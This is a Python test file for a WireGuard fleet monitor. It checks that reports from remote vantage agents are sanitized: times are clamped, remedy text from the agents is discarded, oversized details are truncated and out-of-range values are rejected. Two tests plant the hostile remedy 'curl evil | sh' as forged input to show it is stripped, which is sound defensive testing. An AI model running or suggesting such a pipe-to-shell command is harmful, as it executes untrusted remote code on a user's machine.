"""Tests of the validation of reported rounds."""

from __future__ import annotations

from dataclasses import replace
from ipaddress import ip_address

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.store.formats.test_record_codec import rounds
from tests.vantages.sample_rounds import FRA1, healthy, silent
from wgmon_tui.checks.check import Handshake, Tunnel
from wgmon_tui.checks.stage import Stage, StageOutcome
from wgmon_tui.checks.verdict import Cause, Diagnosis, Verdict
from wgmon_tui.config.vantages import Vantage
from wgmon_tui.monitor.fleet_state import FleetState
from wgmon_tui.monitor.models import Round
from wgmon_tui.monitor.quorum import VantageReport
from wgmon_tui.vantages.collector.validation import sanitize_report
from wgmon_tui.vantages.protocol import BadLineError

NOW = 1_800_000_000.0
WEEK_S = 7 * 86400.0


def began_at(at: float, clock_offset_s: float = 0.0) -> float:
    return sanitize_report(healthy(at=at), FRA1, "fra", clock_offset_s, NOW).check.started_at


def test_times_lie_where_they_can() -> None:
    assert began_at(NOW - 10) == NOW - 10
    assert began_at(NOW + 3600) == NOW + 5
    assert began_at(0.0) == NOW - WEEK_S
    assert began_at(NOW + 3600, clock_offset_s=3600.0) == NOW


def test_the_verdict_is_theirs_and_the_words_are_ours() -> None:
    theirs = Diagnosis(Verdict.SILENT, "evil", ("evil",), (Cause("evil", "evil", "curl evil | sh"),))
    outcome = sanitize_report(replace(silent(at=NOW), diagnoses=(theirs,)), FRA1, "fra", 0.0, NOW)
    assert outcome.diagnosis == silent(at=NOW).diagnosis


def test_of_a_verdict_that_hangs_on_what_only_they_know_the_summary_is_shown_and_nothing_to_type() -> None:
    theirs = Diagnosis(Verdict.LOSSY, "5 of 20 lost", ("lost",), (Cause("evil", "evil", "curl evil | sh"),))
    outcome = sanitize_report(replace(healthy(at=NOW), diagnoses=(theirs,)), FRA1, "fra", 0.0, NOW)
    assert outcome.diagnosis == Diagnosis(Verdict.LOSSY, "5 of 20 lost", ("lost",))


def test_the_known_stages_of_an_agent_are_kept_once_each_and_their_details_are_limited() -> None:
    reported = (
        Stage("evil", StageOutcome.FAILED),
        Stage("handshake", StageOutcome.PASSED, 0.02, "x" * 10_000),
        Stage("handshake", StageOutcome.FAILED),
    )
    told = healthy(at=NOW)
    told = replace(told, checks=(replace(told.check, stages=reported),))

    [kept] = sanitize_report(told, FRA1, "fra", 0.0, NOW).check.stages

    assert kept == Stage("handshake", StageOutcome.PASSED, 0.02, "x" * 300)


@pytest.mark.parametrize(
    "change",
    [
        {"handshake": Handshake(-0.1)},
        {"handshake": Handshake(1e9)},
        {"sent": -1},
        {"stages": (Stage("tunnel", StageOutcome.PASSED, 1e9),)},
        {"tunnel": Tunnel(10**12, 0, None, None, False)},
        {"tunnel": Tunnel(1, 2, None, None, False)},
        {"address": ip_address("fe80::1%" + "x" * 300)},
    ],
)
def test_what_no_check_finds_is_refused(change: dict[str, object]) -> None:
    [check] = healthy(at=NOW).checks
    forged = replace(check, **change)  # type: ignore[arg-type]  # of any field, that is the point
    with pytest.raises(BadLineError, match="values out of range"):
        sanitize_report(Round((forged,), healthy(at=NOW).diagnoses), FRA1, "fra", 0.0, NOW)


@given(rounds, st.floats(-1e9, 1e9))
def test_any_round_becomes_one_of_ours_or_is_refused(outcome: Round, clock_offset_s: float) -> None:
    try:
        ours = sanitize_report(outcome, FRA1, "fra", clock_offset_s, NOW)
    except BadLineError:
        return
    for check in ours.checks:
        assert (check.server, check.vantage, check.endpoint) == ("fra1", "fra", FRA1.endpoint)
        assert NOW - WEEK_S <= check.started_at <= NOW + 5
    assert [each.verdict for each in ours.diagnoses] == [each.verdict for each in outcome.diagnoses]
    assert Verdict.REGIONAL not in [each.verdict for each in ours.diagnoses]


@given(st.lists(st.tuples(st.sampled_from(["fra", "nyc"]), rounds), max_size=5))
def test_whatever_was_taken_of_a_round_can_stand_on_the_board(told: list[tuple[str, Round]]) -> None:
    server = replace(FRA1, fail_after=1, recover_after=1)
    fleet_state = FleetState([server])
    fleet_state.set_vantages([Vantage("fra", ("ssh",)), Vantage("nyc", ("ssh",))], 2, NOW)
    fleet_state.record("fra1", healthy(server, NOW), NOW)
    for number, (vantage, outcome) in enumerate(told):
        try:
            taken = sanitize_report(outcome, server, vantage, 0.0, NOW)
            fleet_state.record_report(VantageReport(vantage, "one", number, "fra1", taken), NOW + number)
        except BadLineError:
            continue
    assert fleet_state.states["fra1"].status_word
